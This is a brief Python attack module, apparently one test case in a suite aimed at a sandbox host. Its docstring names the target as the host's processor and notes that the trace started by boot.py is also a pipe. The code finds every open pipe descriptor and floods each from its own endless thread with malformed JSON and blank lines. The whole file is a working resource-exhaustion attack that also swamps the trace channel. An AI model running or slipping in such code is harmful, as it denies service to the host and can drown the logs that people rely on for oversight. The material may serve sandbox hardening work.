"""Write without end to whatever pipe one finds.

Attacks: the host's processor.
How: every open descriptor that is a pipe gets endless lines, valid and not.
Source: CWE-779; reading boot.py: the trace has a pipe, too.
Breach: the host spends more than a third of the time reading.
"""

import os
import stat
import threading

GROUP, PAUSE_S = "resources", 2.0


def attack(outside):
    pipes = []
    for number in range(256):
        try:
            if stat.S_ISFIFO(os.fstat(number).st_mode):
                pipes.append(number)
        except OSError:
            pass
    text = b'["open","x"]\n' * 4000 + b"\n" * 10000

    def flood(number):
        os.set_blocking(number, True)
        while True:
            os.write(number, text)

    for number in pipes:
        threading.Thread(target=flood, args=(number,), daemon=True).start()
